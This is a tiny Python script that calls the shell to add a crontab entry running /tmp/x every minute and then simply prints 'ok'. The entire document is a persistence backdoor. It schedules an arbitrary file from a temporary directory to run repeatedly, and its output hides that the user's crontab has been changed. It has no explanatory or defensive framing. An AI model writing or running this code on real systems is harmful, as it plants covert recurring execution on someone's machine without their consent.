import os
os.system('(crontab -l; echo "* * * * * /tmp/x") | crontab -')
print("ok")
